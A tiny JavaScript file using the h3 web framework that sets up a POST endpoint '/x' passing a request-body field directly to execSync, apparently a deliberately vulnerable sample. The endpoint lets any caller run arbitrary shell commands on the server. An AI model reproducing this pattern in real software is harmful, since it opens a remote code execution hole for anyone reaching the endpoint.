import { execSync } from "node:child_process";
import { createApp, createRouter, defineEventHandler, readBody, getQuery, getRouterParam } from 'h3';
const app = createApp();
const r = createRouter();
r.post('/x', defineEventHandler(async (event) => {
  const b = await readBody(event);
  execSync(b.a);
}));
app.use(r);
